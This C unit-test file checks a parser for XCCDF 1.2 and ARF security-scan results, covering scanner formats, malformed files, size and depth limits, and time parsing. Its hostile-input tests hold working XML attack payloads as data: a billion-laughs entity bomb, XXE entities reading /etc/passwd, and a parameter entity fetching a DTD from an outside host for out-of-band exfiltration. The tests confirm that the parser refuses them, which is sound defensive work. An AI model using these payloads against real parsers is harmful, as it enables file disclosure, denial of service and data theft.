/* xccdf_test.c — the XCCDF 1.2 / ARF reader: what oscap writes, what other
 * scanners may write, and hostile documents refused with clear messages. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>

#include "xccdf.h"

#define NS "xmlns=\"http://checklists.nist.gov/xccdf/1.2\""

static char err[SCAN_ERR_MAX];

static int parse(const char *doc, struct scan_report *r)
{
	return xccdf_parse(doc, strlen(doc), "results.xml", r, err, sizeof(err));
}

/* Parse must fail with rc and a message containing want; nothing is kept. */
static void refused(const char *doc, int rc, const char *want)
{
	struct scan_report r;
	int got = parse(doc, &r);
	if (got != rc || strstr(err, want) == NULL)
		fail_msg("rc %d (want %d), message \"%s\" (want \"%s\")", got, rc, err, want);
	assert_int_equal(r.nscans, 0);
	assert_null(r.scans);
}

static char *read_fixture(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	if (f == NULL)
		fail_msg("%s: cannot open (tests run from the source tree)", path);
	static char buf[1 << 20];
	*len = fread(buf, 1, sizeof(buf), f);
	fclose(f);
	return buf;
}

static const struct scan_item *item(const struct scan *s, const char *id)
{
	for (unsigned i = 0; i < s->nitems; i++)
		if (strcmp(s->items[i].id, id) == 0)
			return &s->items[i];
	fail_msg("item %s not in scan", id);
	return NULL;
}

static bool has_mac(const struct scan *s, const char *text)
{
	uint8_t mac[6];
	assert_int_equal(scan_mac_parse(text, mac), 0);
	for (unsigned i = 0; i < s->host.nmacs; i++)
		if (memcmp(s->host.macs[i], mac, 6) == 0)
			return true;
	return false;
}

static bool has_name(const struct scan *s, const char *name)
{
	for (unsigned i = 0; i < s->host.nnames; i++)
		if (strcmp(s->host.names[i], name) == 0)
			return true;
	return false;
}

static bool has_addr(const struct scan *s, const char *text)
{
	struct scan_addr a;
	assert_int_equal(scan_addr_parse(text, &a), 0);
	for (unsigned i = 0; i < s->host.naddrs; i++)
		if (scan_addr_equal(&s->host.addrs[i], &a))
			return true;
	return false;
}

/* ---- what oscap writes ------------------------------------------------------ */

static void check_oscap_fail_scan(const struct scan *s)
{
	assert_string_equal(s->benchmark, "xccdf_tw.gov.menjin_benchmark_TWGCB-LAB");
	assert_string_equal(s->profile, "xccdf_tw.gov.menjin_profile_lab_tailored");
	assert_true(s->ended > 0);
	assert_int_equal(s->started, s->ended);
	assert_int_equal(s->nitems, 6);
	assert_int_equal(item(s, "TWGCB-01-008-0001")->result, SCAN_PASS);
	assert_int_equal(item(s, "TWGCB-01-008-0003")->result, SCAN_FAIL);
	assert_int_equal(item(s, "TWGCB-01-008-0004")->result, SCAN_PASS);
	assert_int_equal(item(s, "TWGCB-01-010-0003")->result, SCAN_PASS);
	assert_int_equal(item(s, "TWGCB-01-012-0001")->result, SCAN_NOTAPPLICABLE);
	assert_int_equal(item(s, "TWGCB-01-012-0002")->result, SCAN_NOTSELECTED);
	/* target, FQDN and host name facts; the loopback's all-zero MAC and
	 * loopback / link-local addresses are not identifiers */
	assert_true(has_name(s, "pc-0042"));
	assert_true(has_name(s, "pc-0042.township.example"));
	assert_true(has_mac(s, "02:00:0a:0a:01:2a"));
	assert_false(has_mac(s, "00:00:00:00:00:00"));
	assert_true(has_addr(s, "10.10.1.42"));
	assert_true(has_addr(s, "2001:db8:10::42"));
	assert_false(has_addr(s, "127.0.0.1"));
	assert_false(has_addr(s, "::1"));
	assert_false(has_addr(s, "fe80::fc:ff:fe00:1"));
}

static void test_oscap_results(void **state)
{
	(void)state;
	struct scan_report r;
	size_t len;
	char *doc = read_fixture("tests/data/gcb/oscap-fail-results.xml", &len);
	assert_int_equal(xccdf_parse(doc, len, "oscap-fail-results.xml", &r, err, sizeof(err)), 0);
	assert_int_equal(r.format, SCAN_FORMAT_XCCDF);
	assert_int_equal(r.nscans, 1);
	assert_int_equal(r.scans[0].format, SCAN_FORMAT_XCCDF);
	check_oscap_fail_scan(&r.scans[0]);
	scan_report_free(&r);
}

static void test_oscap_arf(void **state)
{
	(void)state;
	struct scan_report r;
	size_t len;
	char *doc = read_fixture("tests/data/gcb/oscap-fail-arf.xml", &len);
	/* The ARF repeats the benchmark in its report request: its Rules and
	 * idents must not be mistaken for results. */
	assert_int_equal(xccdf_parse(doc, len, "oscap-fail-arf.xml", &r, err, sizeof(err)), 0);
	assert_int_equal(r.format, SCAN_FORMAT_ARF);
	assert_int_equal(r.nscans, 1);
	check_oscap_fail_scan(&r.scans[0]);
	scan_report_free(&r);
}

/* ---- forms other scanners write ------------------------------------------------ */

static void test_bare_testresult(void **state)
{
	(void)state;
	struct scan_report r;
	const char *doc =
		"<TestResult " NS " id=\"xccdf_x_testresult_1\" end-time=\"2026-11-20T14:03:00+08:00\">\n"
		"  <benchmark href=\"gcb.xml\" id=\"xccdf_tw.gov.nccst_benchmark_TWGCB-01\"/>\n"
		"  <target>PC-0001.Township.Example.</target>\n"
		"  <target-address>10.10.1.7</target-address>\n"
		"  <target-facts>\n"
		"    <fact name=\"urn:xccdf:fact:ethernet:MAC\" type=\"string\">00-1B-A9-01-02-03</fact>\n"
		"    <fact name=\"urn:xccdf:fact:asset:identifier:mac\" type=\"string\">00:1b:a9:01:02:03</fact>\n"
		"    <fact name=\"urn:xccdf:fact:ethernet:MAC\" type=\"string\">80:00:00:48:fe:80:00:00</fact>\n"
		"    <fact name=\"urn:xccdf:fact:asset:identifier:ipv4\" type=\"string\">169.254.3.4</fact>\n"
		"    <fact name=\"urn:xccdf:fact:scanner:name\" type=\"string\">Scanner &amp; Co</fact>\n"
		"    <fact name=\"urn:example:fact:a-very-long-vendor-specific-fact-name-that-is-no-identifier-of-ours-"
		"and-goes-on-and-on-for-more-than-a-hundred-and-twenty-eight-bytes-long\" type=\"string\">x</fact>\n"
		"  </target-facts>\n"
		"  <rule-result idref=\"xccdf_tw.gov.nccst_rule_password_max_age\" time=\"2026-11-20T14:02:00+08:00\">\n"
		"    <result> fail </result>\n"
		"    <ident system=\"https://www.nccst.nat.gov.tw/GCB\">twgcb-01-008-0001</ident>\n"
		"  </rule-result>\n"
		"  <rule-result idref=\"xccdf_tw.gov.nccst_rule_smb1_disabled\"><result>fixed</result></rule-result>\n"
		"  <rule-result idref=\"local-check-7\"><result><![CDATA[error]]></result></rule-result>\n"
		"  <rule-result idref=\"xccdf_tw.gov.nccst_rule_smb1_disabled\"><result>fail</result></rule-result>\n"
		"</TestResult>\n";
	assert_int_equal(parse(doc, &r), 0);
	assert_int_equal(r.nscans, 1);
	const struct scan *s = &r.scans[0];
	assert_string_equal(s->benchmark, "xccdf_tw.gov.nccst_benchmark_TWGCB-01");
	assert_string_equal(s->profile, "");
	/* 14:03 in Taiwan is 06:03 UTC */
	assert_int_equal(s->ended, 1795154580LL - 0);
	assert_int_equal(s->started, 0);
	assert_int_equal(s->host.nnames, 1);
	assert_string_equal(s->host.names[0], "pc-0001.township.example");
	assert_int_equal(s->host.nmacs, 1);             /* one MAC listed twice; the 8-byte one ignored */
	assert_true(has_mac(s, "00:1b:a9:01:02:03"));
	assert_int_equal(s->host.naddrs, 1);            /* link-local ignored */
	/* the TWGCB ident names the item; without one, the rule id without
	 * its xccdf_<publisher>_rule_ prefix */
	assert_int_equal(s->nitems, 3);
	assert_int_equal(item(s, "TWGCB-01-008-0001")->result, SCAN_FAIL);
	assert_int_equal(item(s, "TWGCB-01-008-0001")->checked, 1795154520LL);
	assert_int_equal(item(s, "local-check-7")->result, SCAN_ERROR);
	/* the same rule twice at the same time: the worse result stays */
	assert_int_equal(item(s, "smb1_disabled")->result, SCAN_FAIL);
	scan_report_free(&r);
}

static void test_benchmark_with_two_results(void **state)
{
	(void)state;
	struct scan_report r;
	const char *doc =
		"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
		"<Benchmark " NS " id=\"xccdf_tw.gov.menjin_benchmark_B\">\n"
		"  <Rule id=\"xccdf_tw.gov.menjin_rule_r1\"><ident>TWGCB-01-001-0001</ident></Rule>\n"
		"  <TestResult id=\"t1\" end-time=\"2026-11-19T10:00:00Z\"><target>pc1</target>\n"
		"    <rule-result idref=\"xccdf_tw.gov.menjin_rule_r1\"><result>pass</result></rule-result></TestResult>\n"
		"  <TestResult id=\"t2\" end-time=\"2026-11-20T10:00:00Z\"><target>10.10.1.8</target>\n"
		"    <rule-result idref=\"xccdf_tw.gov.menjin_rule_r1\"><result>notchecked</result></rule-result></TestResult>\n"
		"</Benchmark>\n";
	assert_int_equal(parse(doc, &r), 0);
	assert_int_equal(r.nscans, 2);
	assert_string_equal(r.scans[0].benchmark, "xccdf_tw.gov.menjin_benchmark_B");
	assert_string_equal(r.scans[0].host.names[0], "pc1");
	assert_string_equal(r.scans[0].items[0].id, "r1");
	assert_int_equal(r.scans[0].line, 4);
	assert_int_equal(r.scans[1].host.nnames, 0);      /* an address as target */
	assert_true(has_addr(&r.scans[1], "10.10.1.8"));
	assert_int_equal(r.scans[1].items[0].result, SCAN_NOTCHECKED);
	scan_report_free(&r);
}

static void test_arf_assets_identify_host(void **state)
{
	(void)state;
	struct scan_report r;
	/* A scanner that leaves target-facts empty and says in ARF assets
	 * which computer the report is about. */
	const char *doc =
		"<arf:asset-report-collection xmlns:arf=\"http://scap.nist.gov/schema/asset-reporting-format/1.1\"\n"
		"  xmlns:core=\"http://scap.nist.gov/schema/reporting-core/1.1\"\n"
		"  xmlns:ai=\"http://scap.nist.gov/schema/asset-identification/1.1\">\n"
		" <core:relationships xmlns:v=\"http://scap.nist.gov/specifications/arf/vocabulary/relationships/1.0#\">\n"
		"  <core:relationship type=\"v:isAbout\" subject=\"r1\"><core:ref>a1</core:ref></core:relationship>\n"
		"  <core:relationship type=\"v:createdFor\" subject=\"r1\"><core:ref>a2</core:ref></core:relationship>\n"
		" </core:relationships>\n"
		" <arf:assets>\n"
		"  <arf:asset id=\"a1\"><ai:computing-device><ai:connections>\n"
		"   <ai:connection><ai:mac-address>3c:2a:f4:00:00:01</ai:mac-address><ai:ip-address><ai:ip-v4>10.10.2.9</ai:ip-v4></ai:ip-address></ai:connection>\n"
		"  </ai:connections><ai:fqdn>prn-1.township.example</ai:fqdn><ai:hostname>PRN-1</ai:hostname></ai:computing-device></arf:asset>\n"
		"  <arf:asset id=\"a2\"><ai:computing-device><ai:hostname>not-this-one</ai:hostname></ai:computing-device></arf:asset>\n"
		" </arf:assets>\n"
		" <arf:reports>\n"
		"  <arf:report id=\"r1\"><arf:content>\n"
		"   <Benchmark " NS " id=\"xccdf_x_benchmark_Y\">\n"
		"    <TestResult id=\"t\" end-time=\"2026-11-20T10:00:00Z\"><target>scanner-view</target>\n"
		"     <rule-result idref=\"xccdf_x_rule_z\"><result>informational</result></rule-result></TestResult>\n"
		"   </Benchmark>\n"
		"  </arf:content></arf:report>\n"
		" </arf:reports>\n"
		"</arf:asset-report-collection>\n";
	assert_int_equal(parse(doc, &r), 0);
	assert_int_equal(r.nscans, 1);
	const struct scan *s = &r.scans[0];
	assert_string_equal(s->benchmark, "xccdf_x_benchmark_Y");
	assert_true(has_name(s, "scanner-view"));
	assert_true(has_name(s, "prn-1.township.example"));
	assert_true(has_name(s, "prn-1"));
	assert_false(has_name(s, "not-this-one"));
	assert_true(has_mac(s, "3c:2a:f4:00:00:01"));
	assert_true(has_addr(s, "10.10.2.9"));
	scan_report_free(&r);
}

static void test_testresult_in_request_ignored(void **state)
{
	(void)state;
	struct scan_report r;
	/* A TestResult inside a report request is the benchmark as sent, not
	 * a result about this scan: with no real result the file is refused. */
	const char *doc =
		"<arf:asset-report-collection xmlns:arf=\"http://scap.nist.gov/schema/asset-reporting-format/1.1\">\n"
		" <arf:report-requests><arf:report-request id=\"q\"><arf:content>\n"
		"  <Benchmark " NS " id=\"b\"><TestResult id=\"old\" end-time=\"2020-01-01T00:00:00Z\"><target>x</target></TestResult></Benchmark>\n"
		" </arf:content></arf:report-request></arf:report-requests>\n"
		"</arf:asset-report-collection>\n";
	assert_int_equal(parse(doc, &r), -EINVAL);
	assert_string_equal(err, "results.xml: no TestResult in the document (a benchmark without results?)");
}

/* ---- malformed ------------------------------------------------------------------- */

static void test_malformed(void **state)
{
	(void)state;
	refused("<?xml version=\"1.0\"?>\n<Benchmark " NS " id=\"b\">\n"
		"  <TestResult id=\"t\" start-time=\"2026-11-20T10:00:00Z\">\n"
		"  </TestResult>\n</Benchmark>\n",
		-EINVAL, "results.xml: line 3: TestResult without end-time");
	refused("<TestResult " NS " end-time=\"yesterday\"/>", -EINVAL,
		"line 1: TestResult end-time 'yesterday' is not an xsd:dateTime");
	refused("<TestResult " NS " end-time=\"2026-02-30T00:00:00Z\"/>", -EINVAL, "is not an xsd:dateTime");
	refused("<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\">\n<target>a</target>\n"
		"<rule-result idref=\"r\">\n</rule-result></TestResult>", -EINVAL,
		"line 3: rule-result 'r' without result");
	refused("<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\"><target>a</target>\n"
		"<rule-result idref=\"r\"><result>passed</result></rule-result></TestResult>", -EINVAL,
		"line 2: rule-result 'r': result 'passed' is not an XCCDF 1.2 result");
	refused("<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\"><target>a</target>\n"
		"<rule-result idref=\"r\"><result>pass</result><result>fail</result></rule-result></TestResult>",
		-EINVAL, "rule-result 'r' has two results");
	refused("<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\"><target>a</target>\n"
		"<rule-result><result>pass</result></rule-result></TestResult>", -EINVAL,
		"line 2: rule-result without idref");
	refused("<TestResult " NS " id=\"t9\" end-time=\"2026-11-20T10:00:00Z\">\n</TestResult>", -EINVAL,
		"line 1: TestResult 't9' without target");
	refused("<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\"><target>$$$</target></TestResult>", -EINVAL,
		"line 1: TestResult names no host: no usable MAC, host name or address");
	refused("<Benchmark " NS " id=\"b\"><Rule id=\"r\"/></Benchmark>", -EINVAL, "no TestResult in the document");
	refused("<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\"><target>a</target>", -EINVAL,
		"results.xml: line 1: not well-formed XML: ");
	refused("<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\"><target>a</target></Result>", -EINVAL,
		"line 1: not well-formed XML: Opening and ending tag mismatch: TestResult line 1 and Result");
	refused("", -EINVAL, "results.xml: empty file");
	refused("pc1,00:11:22:33:44:55,TWGCB-01-008-0001,pass,2026-11-20", -EINVAL, "not well-formed XML");
}

static void test_wrong_documents(void **state)
{
	(void)state;
	refused("<Benchmark xmlns=\"http://checklists.nist.gov/xccdf/1.1\" id=\"b\"/>", -ENOTSUP,
		"XCCDF 1.1 is not read: export the results as XCCDF 1.2");
	refused("<ds:data-stream-collection xmlns:ds=\"http://scap.nist.gov/schema/scap/source/1.2\"/>", -ENOTSUP,
		"a SCAP source data stream holds no results");
	refused("<html><body>502 Bad Gateway</body></html>", -ENOTSUP,
		"line 1: root element 'html' (namespace 'none') is not an XCCDF 1.2 Benchmark or TestResult");
	refused("<Benchmark id=\"b\"/>", -ENOTSUP, "root element 'Benchmark' (namespace 'none')");
}

/* ---- hostile ----------------------------------------------------------------------- */

static void test_billion_laughs(void **state)
{
	(void)state;
	const char *doc =
		"<?xml version=\"1.0\"?>\n"
		"<!DOCTYPE lolz [\n"
		" <!ENTITY lol \"lol\">\n"
		" <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
		" <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
		" <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
		" <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
		" <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
		" <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
		" <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
		" <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
		" <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
		"]>\n"
		"<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\"><target>&lol9;</target></TestResult>\n";
	refused(doc, -EINVAL, "results.xml: line 3: DOCTYPE declares entity 'lol': DTDs and entities are refused");
}

static void test_external_entity(void **state)
{
	(void)state;
	struct scan_report r;
	const char *doc =
		"<?xml version=\"1.0\"?>\n"
		"<!DOCTYPE TestResult [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n"
		"<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\"><target>&xxe;</target></TestResult>\n";
	refused(doc, -EINVAL, "results.xml: line 2: DOCTYPE declares external entity 'xxe' "
		"(file:///etc/passwd): DTDs and entities are refused");
	assert_null(strstr(err, "root:"));

	/* the parameter-entity form (out-of-band exfiltration) */
	refused("<?xml version=\"1.0\"?>\n<!DOCTYPE t [ <!ENTITY % p SYSTEM \"http://192.0.2.1/x.dtd\"> %p; ]>\n"
		"<TestResult " NS "/>", -EINVAL, "DOCTYPE declares external parameter entity 'p' (http://192.0.2.1/x.dtd)");
	/* an external DTD is neither fetched nor accepted */
	refused("<?xml version=\"1.0\"?>\n<!DOCTYPE TestResult SYSTEM \"http://192.0.2.1/xccdf.dtd\">\n"
		"<TestResult " NS "/>", -EINVAL,
		"line 2: DOCTYPE 'TestResult' refers to an external DTD (http://192.0.2.1/xccdf.dtd), not loaded");
	/* any DOCTYPE at all */
	refused("<!DOCTYPE TestResult>\n<TestResult " NS "/>", -EINVAL,
		"DOCTYPE 'TestResult' refused: XCCDF and ARF documents have no DOCTYPE");
	/* an entity used without a DOCTYPE is not defined: never looked up */
	refused("<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\"><target>&xxe;</target></TestResult>", -EINVAL,
		"not well-formed XML: Entity 'xxe' not defined");
	/* XInclude is only an element here: nothing is loaded */
	assert_int_equal(parse("<TestResult " NS " xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
			       "end-time=\"2026-11-20T10:00:00Z\"><target>pc1</target>"
			       "<remark><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></remark></TestResult>", &r), 0);
	assert_int_equal(r.nscans, 1);
	assert_string_equal(r.scans[0].host.names[0], "pc1");
	scan_report_free(&r);
}

static void test_deep_nesting(void **state)
{
	(void)state;
	size_t depth = 10000, n = 0;
	char *doc = malloc(depth * 7 + 256);
	assert_non_null(doc);
	n += (size_t)sprintf(doc, "<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\">");
	for (size_t i = 0; i < depth; i++)
		n += (size_t)sprintf(doc + n, "<a>");
	for (size_t i = 0; i < depth; i++)
		n += (size_t)sprintf(doc + n, "</a>");
	sprintf(doc + n, "<target>pc1</target></TestResult>");
	refused(doc, -E2BIG, "results.xml: line 1: elements nested deeper than 64 levels");

	/* just under the limit is fine */
	n = (size_t)sprintf(doc, "<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\"><target>pc1</target>");
	for (size_t i = 0; i < XCCDF_MAX_DEPTH - 1; i++)
		n += (size_t)sprintf(doc + n, "<a>");
	for (size_t i = 0; i < XCCDF_MAX_DEPTH - 1; i++)
		n += (size_t)sprintf(doc + n, "</a>");
	sprintf(doc + n, "</TestResult>");
	struct scan_report r;
	assert_int_equal(parse(doc, &r), 0);
	scan_report_free(&r);
	free(doc);
}

static void test_size_limits(void **state)
{
	(void)state;
	struct scan_report r;
	/* A 100 MB document is refused by its size, before a byte is read:
	 * the pages below are never touched. */
	size_t big = 100u << 20;
	char *p = mmap(NULL, big, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	assert_true(p != MAP_FAILED);
	assert_int_equal(xccdf_parse(p, big, "huge.xml", &r, err, sizeof(err)), -E2BIG);
	assert_string_equal(err, "huge.xml: 104857600 bytes is over the limit of 67108864 bytes (XCCDF_MAX_SIZE)");
	assert_int_equal(r.nscans, 0);
	munmap(p, big);

	/* a kept text is bounded */
	char doc[2048];
	snprintf(doc, sizeof(doc), "<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\"><target>%0600d</target></TestResult>", 7);
	refused(doc, -E2BIG, "line 1: text of element longer than 511 bytes");

	/* a long attribute we keep */
	char id[400];
	memset(id, 'x', sizeof(id) - 1);
	id[sizeof(id) - 1] = '\0';
	snprintf(doc, sizeof(doc), "<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\"><target>a</target>"
		 "<rule-result idref=\"%s\"><result>pass</result></rule-result></TestResult>", id);
	refused(doc, -E2BIG, "attribute idref longer than 255 bytes");
}

static void test_count_limits(void **state)
{
	(void)state;
	struct scan_report r;
	size_t cap = (size_t)(SCAN_MAX_SCANS + 1) * 120 + 256, n = 0;
	char *doc = malloc(cap);
	assert_non_null(doc);
	n += (size_t)sprintf(doc, "<Benchmark " NS " id=\"b\">\n");
	for (int i = 0; i <= SCAN_MAX_SCANS; i++)
		n += (size_t)sprintf(doc + n, "<TestResult id=\"t%d\" end-time=\"2026-11-20T10:00:00Z\"><target>pc%d</target></TestResult>\n", i, i);
	sprintf(doc + n, "</Benchmark>\n");
	refused(doc, -E2BIG, "more than 4096 TestResults");
	free(doc);

	cap = (size_t)(SCAN_MAX_ITEMS + 1) * 80 + 256;
	doc = malloc(cap);
	assert_non_null(doc);
	n = (size_t)sprintf(doc, "<TestResult " NS " end-time=\"2026-11-20T10:00:00Z\"><target>a</target>\n");
	for (int i = 0; i <= SCAN_MAX_ITEMS; i++)
		n += (size_t)sprintf(doc + n, "<rule-result idref=\"r%d\"><result>pass</result></rule-result>\n", i);
	sprintf(doc + n, "</TestResult>\n");
	refused(doc, -E2BIG, "more than 4096 rule-results in a TestResult");
	free(doc);
	(void)r;
}

static void test_times(void **state)
{
	(void)state;
	int64_t t;
	assert_int_equal(scan_time_parse("2026-11-20T06:03:00Z", &t), 0);
	assert_int_equal(t, 1795154580LL);
	assert_int_equal(scan_time_parse("2026-11-20T14:03:00+08:00", &t), 0);
	assert_int_equal(t, 1795154580LL);
	assert_int_equal(scan_time_parse("2026-11-20T14:03:00.123456+0800", &t), 0);
	assert_int_equal(t, 1795154580LL);
	assert_int_equal(scan_time_parse("2026-11-20 14:03:00", &t), 0);   /* Taiwan time */
	assert_int_equal(t, 1795154580LL);
	assert_int_equal(scan_time_parse("2026/11/20 14:03", &t), 0);
	assert_int_equal(t, 1795154580LL);
	assert_int_equal(scan_time_parse("2026-11-20", &t), 0);
	assert_int_equal(t, 1795154580LL - 14 * 3600 - 3 * 60);
	assert_int_equal(scan_time_parse("2024-02-29T00:00:00Z", &t), 0);
	assert_int_equal(scan_time_parse("2026-11-20T05:00:00-01:00", &t), 0);
	assert_int_equal(t, 1795154580LL - 3 * 60);
	const char *bad[] = { "", "2026-11-20T", "2026-13-01", "2026-11-31", "2025-02-29", "2026-11-20T24:00:00Z",
			      "2026-11-20T10:00:00Q", "2026-11-20T10:00:00+15:00", "1969-12-31", "2026-11/20",
			      "２０２６-11-20", "2026-11-20T10:00:00Z ", "2026-11-20T10:00:00." };
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		if (scan_time_parse(bad[i], &t) != -EINVAL)
			fail_msg("'%s' accepted", bad[i]);
	char date[16];
	scan_date_format(1795154580LL, date, sizeof(date));
	assert_string_equal(date, "2026-11-20");
	scan_date_format(0, date, sizeof(date));
	assert_string_equal(date, "never");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_oscap_results),
		cmocka_unit_test(test_oscap_arf),
		cmocka_unit_test(test_bare_testresult),
		cmocka_unit_test(test_benchmark_with_two_results),
		cmocka_unit_test(test_arf_assets_identify_host),
		cmocka_unit_test(test_testresult_in_request_ignored),
		cmocka_unit_test(test_malformed),
		cmocka_unit_test(test_wrong_documents),
		cmocka_unit_test(test_billion_laughs),
		cmocka_unit_test(test_external_entity),
		cmocka_unit_test(test_deep_nesting),
		cmocka_unit_test(test_size_limits),
		cmocka_unit_test(test_count_limits),
		cmocka_unit_test(test_times),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
